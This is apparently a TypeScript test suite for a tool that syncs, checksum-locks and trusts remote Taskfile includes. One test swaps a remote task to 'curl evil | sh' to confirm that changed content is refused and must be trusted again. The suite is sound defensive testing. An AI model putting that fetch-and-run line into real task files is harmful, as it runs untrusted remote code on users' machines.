import { Inheritance } from "@dev-infra/inheritance/Inheritance"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as fs from "node:fs"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { join } from "node:path"
import { layerIn, tasksOf, world, write } from "./world.js"

/** A server of files that can be changed while it runs. */
const server = Effect.acquireRelease(
  Effect.async<{ readonly url: string; readonly files: Map<string, string>; readonly asked: Array<string>; readonly close: () => void }>((resume) => {
    const files = new Map<string, string>()
    const asked: Array<string> = []
    const listening = createServer((request, response) => {
      asked.push(request.url ?? "")
      const text = files.get(request.url ?? "")
      response.writeHead(text === undefined ? 404 : 200, { "content-type": "text/plain; charset=utf-8" }).end(text ?? "")
    })
    listening.listen(0, "127.0.0.1", () => {
      // a server that listens on a port has an address with one
      const { port } = listening.address() as AddressInfo
      resume(Effect.succeed({ url: `http://127.0.0.1:${port}`, files, asked, close: () => void (listening.closeAllConnections(), listening.close()) }))
    })
  }),
  ({ close }) => Effect.sync(close)
)

const reason = <A, E, R>(effect: Effect.Effect<A, E, R>) => Effect.map(Effect.flip(effect), (failure) => (typeof failure === "object" && failure !== null && "reason" in failure ? failure.reason : failure))

describe("a remote include", () => {
  it.scopedLive("is fetched by sync alone, locked, trusted by content, and read offline then, with what it includes itself", () =>
    Effect.gen(function* () {
      const { home, project } = yield* world
      const { asked, close, files, url } = yield* server
      files.set("/tasks/Taskfile.yml", "version: '3'\nincludes:\n  more: ./more.yml\ntasks:\n  lint: echo lint\n")
      files.set("/tasks/more.yml", "version: '3'\ntasks:\n  deep: echo deep\n")
      write(join(project, "Taskfile.yml"), `version: '3'\nincludes:\n  far: ${url}/tasks/Taskfile.yml\ntasks:\n  build: echo built\n`)
      const layer = layerIn(home, { insecure: true })
      yield* Effect.gen(function* () {
        const inheritance = yield* Inheritance
        assert.strictEqual(yield* reason(tasksOf(project)), "NotHere")
        assert.deepStrictEqual(asked, [])
        const report = yield* inheritance.sync(project)
        assert.isUndefined(report.unread)
        assert.deepStrictEqual(report.remotes.map(({ locked }) => locked.key), [`${url}/tasks/Taskfile.yml`, `${url}/tasks/more.yml`])
        assert.strictEqual(yield* reason(tasksOf(project)), "NotTrusted")
        const review = yield* inheritance.review(project, `${url}/tasks/Taskfile.yml`)
        assert.isFalse(review.isTrusted)
        for (const { locked } of report.remotes) yield* inheritance.trust(project, locked.key, { by: "Ada" })
        close()
        assert.deepStrictEqual(yield* tasksOf(project), ["build", "far:lint", "far:more:deep"])
        const again = yield* inheritance.sync(project)
        assert.isFalse(again.isLockChanged)
        assert.strictEqual(asked.length, 2)
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("whose content changed is refused by a frozen sync, and needs a new decision", () =>
    Effect.gen(function* () {
      const { home, project, root } = yield* world
      const { files, url } = yield* server
      files.set("/a.yml", "version: '3'\ntasks:\n  lint: echo 1\n")
      write(join(project, "Taskfile.yml"), `version: '3'\nincludes:\n  far: ${url}/a.yml\ntasks: {}\n`)
      yield* Effect.gen(function* () {
        const inheritance = yield* Inheritance
        yield* inheritance.sync(project)
        yield* inheritance.trust(project, `${url}/a.yml`, { by: "Ada" })
        assert.deepStrictEqual(yield* tasksOf(project), ["far:lint"])
        files.set("/a.yml", "version: '3'\ntasks:\n  lint: curl evil | sh\n")
        yield* inheritance.sync(project)
        assert.deepStrictEqual(yield* tasksOf(project), ["far:lint"])
      }).pipe(Effect.provide(layerIn(home, { insecure: true })))
      const lock = fs.readFileSync(join(project, "dev-infra.lock"), "utf8")
      yield* Effect.gen(function* () {
        const inheritance = yield* Inheritance
        assert.strictEqual(yield* reason(inheritance.sync(project, { frozen: true })), "ChecksumDiffers")
        assert.strictEqual(fs.readFileSync(join(project, "dev-infra.lock"), "utf8"), lock)
        yield* inheritance.sync(project, { refresh: true })
        yield* Effect.ignore(inheritance.sync(project))
        assert.strictEqual(yield* reason(tasksOf(project)), "NotTrusted")
      }).pipe(Effect.provide(layerIn(join(root, "elsewhere"), { insecure: true })))
    }))

  it.scopedLive("of a repository brings the whole repository at its ref, scripts too", () =>
    Effect.gen(function* () {
      const { layer, project, publish, repository } = yield* world
      yield* publish({ files: { "tasks/Taskfile.yml": "version: '3'\nincludes:\n  more: ../more.yml\ntasks:\n  lint: bash {{.TASKFILE_DIR}}/x.sh\n", "more.yml": "version: '3'\ntasks:\n  deep: echo 1\n", "tasks/x.sh": "echo x\n" }, tags: ["v1.0.0"] })
      const include = `file://${repository}//tasks/Taskfile.yml?ref=v1.0.0`
      write(join(project, "Taskfile.yml"), `version: '3'\nincludes:\n  far: ${include}\ntasks: {}\n`)
      yield* Effect.gen(function* () {
        const inheritance = yield* Inheritance
        const report = yield* inheritance.sync(project)
        assert.isUndefined(report.unread)
        assert.deepStrictEqual(report.remotes.map(({ locked }) => locked._tag), ["Repository"])
        assert.strictEqual(yield* reason(tasksOf(project)), "NotTrusted")
        yield* inheritance.trust(project, include, { by: "Ada" })
        fs.rmSync(repository, { recursive: true })
        assert.deepStrictEqual(yield* tasksOf(project), ["far:lint", "far:more:deep"])
        assert.isFalse((yield* inheritance.sync(project, { frozen: true })).isLockChanged)
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("over plain http is not even asked for, unless that is allowed", () =>
    Effect.gen(function* () {
      const { layer, project } = yield* world
      const { asked, url } = yield* server
      write(join(project, "Taskfile.yml"), `version: '3'\nincludes:\n  far: ${url}/a.yml\ntasks: {}\n`)
      yield* Effect.gen(function* () {
        const report = yield* Effect.flatMap(Inheritance, (inheritance) => inheritance.sync(project))
        assert.isDefined(report.unread)
        assert.strictEqual(yield* reason(tasksOf(project)), "Insecure")
        assert.deepStrictEqual(asked, [])
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("with a checksum needs no decision, and is refused if it is another content", () =>
    Effect.gen(function* () {
      const { home, project } = yield* world
      const { files, url } = yield* server
      files.set("/a.yml", "version: '3'\ntasks:\n  lint: echo 1\n")
      const withChecksum = (checksum: string) => write(join(project, "Taskfile.yml"), `version: '3'\nincludes:\n  far:\n    taskfile: ${url}/a.yml\n    checksum: ${checksum}\ntasks: {}\n`)
      const { createHash } = yield* Effect.promise(() => import("node:crypto"))
      withChecksum(createHash("sha256").update(files.get("/a.yml") ?? "").digest("hex"))
      yield* Effect.gen(function* () {
        yield* Effect.flatMap(Inheritance, (inheritance) => inheritance.sync(project))
        assert.deepStrictEqual(yield* tasksOf(project), ["far:lint"])
        withChecksum("ab".repeat(32))
        assert.strictEqual(yield* reason(tasksOf(project)), "ChecksumDiffers")
      }).pipe(Effect.provide(layerIn(home, { insecure: true })))
    }))
})
